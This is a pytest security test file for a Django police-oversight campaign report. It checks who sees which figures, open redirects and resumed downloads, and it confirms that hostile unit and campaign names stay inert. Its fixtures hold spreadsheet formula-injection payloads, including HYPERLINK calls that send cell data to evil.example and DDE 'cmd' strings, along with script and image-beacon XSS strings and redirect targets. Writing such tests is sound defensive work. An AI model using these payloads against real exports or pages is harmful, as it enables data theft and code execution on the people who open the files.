"""The campaign report attacked from outside: who learns which figures through every door (the page, its charts'
data, each file, the API, the campaign list, the yearly report), the password and the resumed download, hostile text
in the campaign's and the units' names, bad input, the figures' edge cases, and the doors agreeing with each other.

The data set is the report's (tests/oversight/test_report.py): special supervision "S" over west W1–W3 and east E1–E2,
reviewed by the west and the east county supervisors; fugitive pursuit "F" over west WF1–WF2 and east EF1.
"""

import io
import json
import re
from datetime import date, timedelta

import openpyxl
import pytest
from django.db import transaction
from django.db.models import F
from django.urls import reverse
from django.utils import timezone, translation
from rest_framework.test import APIClient

from accounts import services as account_services
from accounts.models import Membership, OrgUnit, Role, User
from accounts.selectors import actor_for
from cases.choices import AccessAction, CaseStatus
from cases.models import AccessLog
from cases.reports.services import render_export
from cases.workflow_actions import WORKFLOW_ACTIONS
from oversight import report, selectors, services
from oversight.choices import CampaignKind, Measure, ProblemType
from oversight.models import Campaign, CampaignCase, Problem
from oversight.report_files import render_file
from oversight.scope import Scope
from tests.conftest import reauthenticated
from tests.factories import PASSWORD, PATH, member
from tests.oversight.conftest import build_camp, new_campaign
from tests.oversight.test_report import (  # the report's data set, figures and file readers
    EAST,
    F_EAST,
    S_EAST,
    S_TOTAL,
    S_WEST,
    WEST,
    Dataset,
    _pass_all,
    build,
    csv_grids,
    pdf_text,
)


@pytest.fixture(scope="module")
def _dataset(django_db_setup, django_db_blocker):
    with django_db_blocker.unblock():
        outer = transaction.atomic()
        outer.__enter__()
        try:
            yield build(build_camp())
        finally:
            transaction.set_rollback(True)
            outer.__exit__(None, None, None)


@pytest.fixture
def data(_dataset, db) -> Dataset:
    return _dataset


FORMATS = ("csv", "xlsx", "pdf")


def exports() -> int:
    return AccessLog.objects.filter(action=AccessAction.EXPORT).count()


def report_urls(campaign: Campaign) -> list[str]:
    return [
        reverse("oversight:report", args=[campaign.pk]),
        *(reverse("oversight:report-file", args=[campaign.pk, fmt]) for fmt in FORMATS),
    ]


def api(user) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


def xlsx_rows(raw: bytes, sheet: str) -> list[list]:
    return [list(r) for r in openpyxl.load_workbook(io.BytesIO(raw))[sheet].iter_rows(values_only=True)]


# --- who learns which figures -------------------------------------------------------------------------------------


def test_a_reviewer_of_one_sub_unit_learns_no_figure_of_the_other_through_any_door(client, data):
    """The east county's reviewer: the page's key figures, tables and charts' data, each file, the API's report and
    the campaign list (page and API) count the two east cases only — never the campaign's five."""
    east = data.camp.east_supervisor
    special = data.special
    client.force_login(east)
    reauthenticated(client)
    page = client.get(reverse("oversight:report", args=[special.pk]))
    assert page.status_code == 200
    html = page.content.decode()
    assert "西湖区分局" not in html
    assert dict(page.context["kpis"]) == {
        "Cases selected": 2,
        "Cases reviewed": 1,
        "Problems found": 2,
        "Rectified on time": 1,
        "Overdue rectifications": 1,
        "Cases made up": 0,
        "Officers held accountable": 2,
    }
    charts = json.loads(re.search(r'id="report-charts" type="application/json">(.*?)</script>', html)[1])["charts"]
    assert {c["key"]: (c["labels"], [s["values"] for s in c["series"]]) for c in charts} == {
        "reviewed": ([EAST], [[2.0], [1.0]]),
        "problem_types": (["Obstruction or interference in handling", "Evidence"], [[1.0, 1.0]]),
        "rectification": ([EAST], [[2.0], [1.0]]),
    }

    _head, grids = csv_grids(client.get(reverse("oversight:report-file", args=[special.pk, "csv"])).content)
    assert {title: list(rows) for title, rows in grids.items()} == {
        "Figures by sub-unit": [EAST, "Total"],
        "Problems found by type": [EAST, "Total"],
        "Accountability": [EAST, "Total"],
    }
    assert grids["Figures by sub-unit"]["Total"]["Cases selected"] == "2"
    raw = client.get(reverse("oversight:report-file", args=[special.pk, "xlsx"])).content
    summary = {row[0]: row[1] for row in xlsx_rows(raw, "Summary") if row[0]}
    assert (summary["Cases selected"], summary["Officers held accountable"]) == (2, 2)
    assert [r[0] for r in xlsx_rows(raw, "Figures by sub-unit")[1:3]] == [EAST, "Total"]
    text = pdf_text(client.get(reverse("oversight:report-file", args=[special.pk, "pdf"])).content)
    assert "西湖区分局" not in text
    assert "Cases selected 2 Cases reviewed 1" in text

    body = api(east).get(f"/api/v1/campaigns/{special.pk}/report/").json()
    assert [r["unit"]["code"] for r in body["rows"]] == ["330108"]
    assert body["total"]["selected"] == 2
    # The campaign the report is about says how many cases the reader counts, not the campaign's five.
    assert body["campaign"]["selected_count"] == 2
    assert api(east).get(f"/api/v1/campaigns/{special.pk}/").json()["selected_count"] == 2
    listed = {c["id"]: c["selected_count"] for c in api(east).get("/api/v1/campaigns/").json()["results"]}
    assert listed == {special.pk: 2}
    rows = client.get(reverse("oversight:list")).content.decode()
    assert re.search(r'<td class="text-end">(\d+)</td>\s*</tr>', rows)[1] == "2"


def test_the_organisers_still_see_every_selected_case_counted_in_the_list(client, data):
    boss = data.camp.world.supervisor
    listed = {c["id"]: c["selected_count"] for c in api(boss).get("/api/v1/campaigns/").json()["results"]}
    assert listed == {data.special.pk: 5, data.pursuit.pk: 3, data.draft.pk: 0, data.last_year.pk: 4}
    assert api(boss).get(f"/api/v1/campaigns/{data.special.pk}/report/").json()["campaign"]["selected_count"] == 5


def test_a_pursuit_reviewer_learns_only_their_sub_units_fugitives(client, data):
    """The east county's supervisor reviews the pursuit's east cases: the campaign page's fugitives block, the report
    and the API count the east fugitives only."""
    boss, east = data.camp.world.supervisor, data.camp.east_supervisor
    services.assign_reviewer(campaign=data.pursuit, by=boss, sub_unit=data.camp.east, reviewer=east)
    client.force_login(east)
    detail = client.get(reverse("oversight:detail", args=[data.pursuit.pk]))
    assert (detail.context["pursuit"].total, detail.context["pursuit"].cross_border) == (3, 1)
    r = report.campaign_report(actor_for(east), data.pursuit)
    assert ([row.unit.code for row in r.rows], r.total) == (["330108"], F_EAST)
    page = client.get(reverse("oversight:report", args=[data.pursuit.pk]))
    assert dict(page.context["kpis"])["Fugitives pursued"] == 3
    assert dict(page.context["kpis"])["Still at large"] == 1
    body = api(east).get(f"/api/v1/campaigns/{data.pursuit.pk}/report/").json()
    assert body["total"]["pursuit"]["pursued"] == 3
    assert body["campaign"]["selected_count"] == 1


@pytest.mark.parametrize("who", ["revoked_reviewer", "other_province_admin", "unassigned_station_supervisor"])
def test_outsiders_get_no_report_page_file_or_api_and_nothing_is_logged(client, data, who):
    w = data.camp.world
    if who == "revoked_reviewer":
        user = data.camp.east_supervisor
        account_services.revoke_membership(membership=Membership.objects.get(user=user, role=Role.SUPERVISOR))
    elif who == "other_province_admin":
        user = member(w.sibling_province, Role.ADMIN, username="hubei_admin")
    else:
        user = member(data.camp.east_station, Role.SUPERVISOR, username="east_station_supervisor")
    before = exports()
    client.force_login(user)
    reauthenticated(client)
    for url in report_urls(data.special):
        answer = client.get(url)
        assert answer.status_code in (403, 404), url
        assert "Content-Disposition" not in answer
        assert data.special.name not in answer.content.decode()
    answer = api(user).get(f"/api/v1/campaigns/{data.special.pk}/report/")
    assert answer.status_code in (403, 404)
    assert "rows" not in answer.json()
    assert exports() == before


# --- the password, the resumed download and the log ------------------------------------------------------------------


def test_the_password_page_never_sends_the_reader_off_site(client, data):
    boss = User.objects.get(pk=data.camp.world.supervisor.pk)
    boss.set_password(PASSWORD)
    boss.save(update_fields=["password"])
    client.force_login(boss)
    for target in ("https://evil.example/x", "//evil.example/x", "/\\evil.example", "javascript:alert(1)"):
        answer = client.post(reverse("reauth"), {"password": PASSWORD, "next": target})
        assert (answer.status_code, answer["Location"]) == (302, "/"), target


def test_a_resumed_download_is_that_campaigns_and_that_formats_once(client, data):
    """The download asked for before the password is resumed on its own campaign's report only, once; the file is
    logged once, when it is fetched; a later password confirmation for something else resumes nothing."""
    boss = data.camp.world.supervisor
    client.force_login(boss)
    before = exports()
    client.get(reverse("oversight:report-file", args=[data.special.pk, "xlsx"]))
    client.get(reverse("oversight:report-file", args=[data.pursuit.pk, "csv"]))  # the last one asked for wins
    reauthenticated(client)
    assert client.get(reverse("oversight:report", args=[data.special.pk])).context["resume_format"] == ""
    assert client.get(reverse("oversight:report", args=[data.pursuit.pk])).context["resume_format"] == "csv"
    assert client.get(reverse("oversight:report", args=[data.pursuit.pk])).context["resume_format"] == ""
    assert exports() == before


def test_a_download_asked_for_long_before_the_password_is_not_resumed(client, data):
    """A download abandoned at the password page; an hour later the reader confirms the password for something else
    (an ID number's reveal) and opens the report: the old file does not download by itself, and nothing is logged."""
    client.force_login(data.camp.world.supervisor)
    asked = client.get(reverse("oversight:report-file", args=[data.special.pk, "pdf"]))
    assert asked.status_code == 302
    # That was an hour ago.
    session = client.session
    session["oversight.pending_report_file"] = {
        **session["oversight.pending_report_file"],
        "at": (timezone.now() - timedelta(hours=1)).timestamp(),
    }
    session.save()
    reauthenticated(client)
    before = exports()
    page = client.get(reverse("oversight:report", args=[data.special.pk]))
    assert page.context["resume_format"] == ""
    assert "data-resume" not in page.content.decode()
    assert "oversight.pending_report_file" not in client.session  # dropped, not kept for later
    assert exports() == before


@pytest.mark.parametrize("method", ["head", "post", "put", "delete"])
def test_other_methods_on_a_download_get_405_and_no_log(client, data, method):
    client.force_login(data.camp.world.supervisor)
    reauthenticated(client)
    before = exports()
    answer = getattr(client, method)(reverse("oversight:report-file", args=[data.special.pk, "csv"]))
    assert answer.status_code == 405
    assert "Content-Disposition" not in answer
    assert exports() == before


@pytest.mark.parametrize("fmt", ["CSV", "Pdf", "xls", "html", "csv ", "csv.exe", "..", "%00csv"])
def test_unknown_formats_and_case_variants_are_404_and_not_logged(client, data, fmt):
    client.force_login(data.camp.world.supervisor)
    reauthenticated(client)
    before = exports()
    answer = client.get(f"/campaigns/{data.special.pk}/report/{fmt}/")
    assert answer.status_code == 404
    assert exports() == before


def test_huge_and_unknown_campaign_ids_are_404_not_500(client, data):
    boss = data.camp.world.supervisor
    client.force_login(boss)
    reauthenticated(client)
    before = exports()
    for pk in ("0", "2147483648", "9223372036854775808", "99999999999999999999999999"):
        for url in (f"/campaigns/{pk}/report/", f"/campaigns/{pk}/report/csv/"):
            assert client.get(url).status_code == 404, url
        assert api(boss).get(f"/api/v1/campaigns/{pk}/report/").status_code == 404
    assert exports() == before


def test_a_drafts_report_does_not_exist_on_any_door(client, data):
    """A draft has selected nothing: its page offers no report, and no door answers one (a report of a campaign that
    has not selected its cases would say "0 cases selected" as a figure, and log an export of nothing)."""
    boss = data.camp.world.supervisor
    client.force_login(boss)
    reauthenticated(client)
    before = exports()
    assert "campaign-report-link" not in client.get(reverse("oversight:detail", args=[data.draft.pk])).content.decode()
    for url in report_urls(data.draft):
        assert client.get(url).status_code == 404, url
    assert api(boss).get(f"/api/v1/campaigns/{data.draft.pk}/report/").status_code == 404
    assert exports() == before


# --- the figures at their edges ---------------------------------------------------------------------------------------


def test_officers_whose_name_and_badge_only_join_up_alike_are_two_officers(data):
    """The same officer is the same name, badge number and unit: "张|7" with no badge and "张" with badge "7|" are two
    people, whatever a separator in the key would make of them."""
    boss = data.camp.world.supervisor
    item = CampaignCase.objects.get(campaign=data.special, case=data.cases["W3"])
    for name, badge in (("张|7", ""), ("张", "7|")):
        services.record_accountability(
            item=item,
            by=boss,
            officer_name=name,
            officer_badge=badge,
            unit=data.camp.world.county,
            measure=Measure.ADMONISHMENT,
            document_reference="杭督〔2026〕9号",
            decided_on=timezone.localdate(),
        )
    r = report.campaign_report(actor_for(boss), data.special)
    assert (r.rows[0].figures.officers_accountable, r.total.officers_accountable) == (4, 5)
    assert r.rows[0].figures.accountability_records == 5


def test_rectify_by_today_is_not_overdue_and_rectified_on_the_day_is_on_time(data):
    """The module's definitions at their boundaries: open on its rectify-by day is not yet overdue (it is the next
    day); rectified on its rectify-by day is on time, a day after it late."""
    w = data.camp.world
    item = CampaignCase.objects.get(campaign=data.special, case=data.cases["W3"])
    today = timezone.localdate()

    def problem(due: date) -> Problem:
        p = services.raise_problem(
            item=item,
            by=w.county_supervisor,
            type=ProblemType.EVIDENCE,
            description="证据未固定",
            responsible_unit=w.county,
            rectify_by=today,
        )
        Problem.objects.filter(pk=p.pk).update(rectify_by=due, raised_at=F("raised_at") - timedelta(days=10))
        return Problem.objects.get(pk=p.pk)

    problem(today)  # open, due today
    on_the_day = problem(today - timedelta(days=3))
    a_day_late = problem(today - timedelta(days=3))
    services.rectify_problem(
        problem=on_the_day, by=w.supervisor, rectification="已补", rectified_on=on_the_day.rectify_by
    )
    services.rectify_problem(
        problem=a_day_late,
        by=w.supervisor,
        rectification="已补",
        rectified_on=a_day_late.rectify_by + timedelta(days=1),
    )
    west = report.campaign_report(actor_for(w.supervisor), data.special).rows[0].figures
    # The data set's west: 4 problems, 2 rectified (1 on time, 1 late), 1 overdue; now 3 more.
    got = (west.problems, west.rectified, west.rectified_on_time, west.rectified_late, west.overdue)
    assert got == (7, 4, 2, 2, 1)
    tomorrow = report.campaign_report(actor_for(w.supervisor), data.special, as_of=today + timedelta(days=1))
    assert tomorrow.rows[0].figures.overdue == 2  # its last day has passed
    assert tomorrow.total.overdue == 3


def test_a_case_made_up_then_closed_again_stays_made_up_once(data):
    """W1 was made up (sent back into supervision); handled again and closed, it is still one case made up, and its
    problems and accountability are as they were."""
    w = data.camp.world
    case = data.cases["W1"]
    case.refresh_from_db()
    assert case.status == CaseStatus.SUPERVISION
    for action, _who, payload in PATH[CaseStatus.CLOSED][-2:]:
        case = WORKFLOW_ACTIONS[action].service(case=case, by=w.supervisor, expected_version=case.version, **payload)
    assert case.status == CaseStatus.CLOSED
    r = report.campaign_report(actor_for(w.supervisor), data.special)
    assert r.rows[0].figures == S_WEST
    assert r.total == S_TOTAL


def test_a_campaign_with_no_cases_reports_zeros_in_every_format(data):
    boss = data.camp.world.supervisor
    empty = new_campaign(data.camp, name="空的专项", scope=Scope(statuses=(CaseStatus.REJECTED,)))
    empty = services.start_campaign(campaign=empty, by=boss)
    assert empty.selected_count == 0
    r = report.campaign_report(actor_for(boss), empty)
    assert (r.rows, r.total) == ((), report.Figures())
    with translation.override("en"):
        _head, grids = csv_grids(render_file(r, "csv"))
        assert grids["Figures by sub-unit"]["Total"]["Cases selected"] == "0"
        assert xlsx_rows(render_file(r, "xlsx"), "Figures by sub-unit")[1][:2] == ["Total", 0]
        assert "Cases selected 0" in pdf_text(render_file(r, "pdf"))


# --- hostile text -----------------------------------------------------------------------------------------------------

# (name, whether the CSV quotes it): a quote before every name a spreadsheet could read as a formula, none before text.
HOSTILE_UNITS = [
    ('</script><script>alert(1)</script>=HYPERLINK("http://evil.example/?"&A1)', False),
    ('=HYPERLINK("http://evil.example/?"&A1,"x")', True),
    ("+cmd|' /C calc'!A0", True),
    ("-1+1", True),
    ("@SUM(1+1)*cmd|' /C calc'!A0", True),
    ("\t=1+1", True),
    ("\r=1+1", True),
    ("\u202e=1+1 gnp.exe", True),
    ("\u200b\uff1d1+1", True),  # a zero-width space, then a full-width equals sign
    ("\x0b=1+1", True),  # a control character an administrator's rename lets through
    ("<style>*{background:url(http://evil.example/x)}</style><img src=http://evil.example/y>", False),
]


@pytest.mark.parametrize(("name", "quoted"), HOSTILE_UNITS)
def test_a_hostile_sub_unit_name_stays_inert_in_the_page_the_charts_and_every_file(client, data, name, quoted):
    OrgUnit.objects.filter(pk=data.camp.east.pk).update(name=name)
    boss = data.camp.world.supervisor
    label = f"{name} (330108)"
    client.force_login(boss)
    reauthenticated(client)
    html = client.get(reverse("oversight:report", args=[data.special.pk])).content.decode()
    for markup in ("<script>alert(1)", "<style>", "<img src=http://evil"):
        assert markup not in html
    chart_json = re.search(r'id="report-charts" type="application/json">(.*?)</script>', html, re.S)[1]
    labels = json.loads(chart_json)["charts"][0]["labels"]
    assert labels == [WEST, label]
    before = exports()
    answers = {fmt: client.get(reverse("oversight:report-file", args=[data.special.pk, fmt])) for fmt in FORMATS}
    assert {fmt: a.status_code for fmt, a in answers.items()} == dict.fromkeys(FORMATS, 200)
    assert exports() == before + 3
    _head, grids = csv_grids(answers["csv"].content)
    for grid in grids.values():
        (east_label,) = [k for k in grid if k not in (WEST, "Total")]
        assert east_label == ("'" + label if quoted else label)  # text, never a formula
    wb = openpyxl.load_workbook(io.BytesIO(answers["xlsx"].content))
    for sheet in ("Figures by sub-unit", "Problems found by type", "Accountability"):
        cells = wb[sheet]["A"][1:4]
        # Strings, never formulas; XlsxWriter writes a control character as Excel's _xHHHH_ escape.
        assert [c.data_type for c in cells] == ["s", "s", "s"]
        assert re.sub(r"_x000([BD])_", lambda m: chr(int(m[1], 16)), cells[1].value) == label
    text = pdf_text(answers["pdf"].content)
    assert "330108" in text
    assert b"/URI" not in answers["pdf"].content  # no link made of the name; the fetcher loads nothing


def test_a_hostile_owner_unit_name_stays_inert_in_every_file(client, data):
    """The owner unit's name is the workbook's subject, the PDF's footer and the header of every file."""
    name = '\x0b=HYPERLINK("http://evil.example")</style>'
    OrgUnit.objects.filter(pk=data.camp.city.pk).update(name=name)
    boss = data.camp.world.supervisor
    r = report.campaign_report(actor_for(boss), Campaign.objects.select_related("owner_unit").get(pk=data.special.pk))
    with translation.override("en"):
        head, _grids = csv_grids(render_file(r, "csv"))
        assert head[3] == ["Owner unit", f"'{name} (330100)"]
        wb = openpyxl.load_workbook(io.BytesIO(render_file(r, "xlsx")))
        owner = next(row[1] for row in wb["Summary"].iter_rows(values_only=True) if row[0] == "Owner unit")
        assert owner == f"_x000B_{name[1:]} (330100)"  # Excel's escape of the control character: a string
        assert render_file(r, "pdf").startswith(b"%PDF")


def test_a_hostile_campaign_name_is_inert_in_the_yearly_files(data):
    name = "@SUM(1+1)*cmd|' /C calc'!A0</script>"
    Campaign.objects.filter(pk=data.special.pk).update(name=name)
    out = io.BytesIO()
    with translation.override("en"):
        render_export(unit=data.camp.world.city, year=timezone.localdate().year, fmt="xlsx", out=out)
    rows = xlsx_rows(out.getvalue(), "Oversight campaigns")
    assert [r[0] for r in rows[1:3]] == ["追逃专项", name]


# --- the yearly report ------------------------------------------------------------------------------------------------


def test_a_county_yearly_report_carries_its_own_campaign_whole_and_no_one_elses(client, data):
    """A campaign owned by the west county is in the west county's report (and the city's) with all its figures; the
    east county's report and the city-owned campaigns stay out of the county's."""
    w = data.camp.world
    today = timezone.localdate()
    county_campaign = services.create_campaign(
        by=w.county_supervisor,
        name="西湖区回头看",
        kind=CampaignKind.LOOK_BACK,
        owner_unit=w.county,
        period_start=today.replace(month=1, day=1),
        period_end=today.replace(month=12, day=31),
        deadline=today + timedelta(days=30),
        scope=Scope(statuses=(CaseStatus.CLOSED,)),
        selection="all",
    )
    services.assign_reviewer(
        campaign=county_campaign, by=w.county_supervisor, sub_unit=w.station, reviewer=w.county_supervisor
    )
    county_campaign = services.start_campaign(campaign=county_campaign, by=w.county_supervisor)
    assert county_campaign.selected_count == 2  # W2, W3 (W1 is being handled again)
    item = CampaignCase.objects.filter(campaign=county_campaign).order_by("pk").first()
    _pass_all(item, w.county_supervisor)
    from tests.oversight.test_report import report_names

    year = today.year
    assert report_names(w.county, year) == ["西湖区回头看"]
    assert report_names(data.camp.east, year) == []
    assert report_names(w.city, year) == ["追逃专项", "2026年袭警案件专项监督", "西湖区回头看"]
    client.force_login(data.camp.east_supervisor)
    assert client.get(reverse("cases:reports"), {"unit": w.county.code, "year": year}).status_code == 404
    client.force_login(w.county_supervisor)
    page = client.get(reverse("cases:reports"), {"unit": w.county.code, "year": year}).content.decode()
    assert "西湖区回头看" in page
    assert "2026年袭警案件专项监督" not in page


# --- the doors agree ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("who", ["boss", "east"])
def test_the_campaign_page_the_report_the_api_and_the_files_say_the_same(client, data, who):
    user = data.camp.world.supervisor if who == "boss" else data.camp.east_supervisor
    expected = S_TOTAL if who == "boss" else S_EAST
    client.force_login(user)
    reauthenticated(client)
    detail = client.get(reverse("oversight:detail", args=[data.special.pk])).context["progress"][-1]
    assert (detail.selected, detail.reviewed, detail.problems, detail.rectified, detail.overdue) == (
        expected.selected,
        expected.reviewed,
        expected.problems,
        expected.rectified,
        expected.overdue,
    )
    assert (detail.made_up, detail.accountable) == (expected.made_up, expected.officers_accountable)
    api_body = api(user).get(f"/api/v1/campaigns/{data.special.pk}/").json()
    assert api_body["progress"][-1]["selected"] == expected.selected
    assert api_body["selected_count"] == expected.selected
    report_body = api(user).get(f"/api/v1/campaigns/{data.special.pk}/report/").json()
    assert report_body["total"]["selected"] == report_body["campaign"]["selected_count"] == expected.selected
    _head, grids = csv_grids(client.get(reverse("oversight:report-file", args=[data.special.pk, "csv"])).content)
    total = grids["Figures by sub-unit"]["Total"]
    assert (total["Cases selected"], total["Officers held accountable"]) == (
        str(expected.selected),
        str(expected.officers_accountable),
    )
    assert selectors.progress(actor_for(user), data.special)[-1].accountable == expected.officers_accountable
